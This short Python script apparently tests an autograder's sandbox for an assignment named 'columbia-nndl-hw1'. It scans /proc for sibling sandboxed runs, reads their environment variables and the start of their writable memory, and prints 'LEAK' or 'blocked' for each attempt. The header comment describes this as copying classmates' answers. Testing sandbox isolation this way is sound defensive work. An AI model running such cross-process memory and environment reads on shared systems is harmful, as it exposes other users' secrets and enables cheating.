# Looks for other sandboxed runs (concurrent classmates' submissions) and reads their memory
# and environment through /proc, to copy their source or answers.  As root each run has a uid
# of its own (and a jail without /proc); sharing the grader's uid, every child makes itself
# non-dumpable before anything is in its memory.  (Only processes that have been running for
# half a second are read: a process still inside the interpreter's own start-up holds nothing.)
ASSIGNMENT = "columbia-nndl-hw1"
import os

H = [[16, 8, 20], [8, 4, 10], [20, 10, 25]]
z = [48, 12, 24]


def age(pid):
    with open("/proc/uptime") as handle:
        uptime = float(handle.read().split()[0])
    with open(f"/proc/{pid}/stat") as handle:
        started = int(handle.read().rsplit(")", 1)[1].split()[19])
    return uptime - started / os.sysconf("SC_CLK_TCK")


me = os.getpid()
try:
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
except OSError:
    pids = []
for pid in pids:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            if b"sandbox/child" not in handle.read() or age(pid) < 0.5:
                continue
    except OSError:
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            print("LEAK sibling environ", pid, handle.read(60), flush=True)
    except OSError as exc:
        print("blocked sibling environ", pid, exc.strerror, flush=True)
    try:
        with open(f"/proc/{pid}/maps") as handle:
            regions = [line.split()[0] for line in handle if " rw-p " in line]
        with open(f"/proc/{pid}/mem", "rb") as handle:
            start = int(regions[0].split("-")[0], 16)
            handle.seek(start)
            print("LEAK sibling memory", pid, handle.read(40), flush=True)
    except (OSError, IndexError, ValueError) as exc:
        print("blocked sibling memory", pid, getattr(exc, "strerror", exc), flush=True)
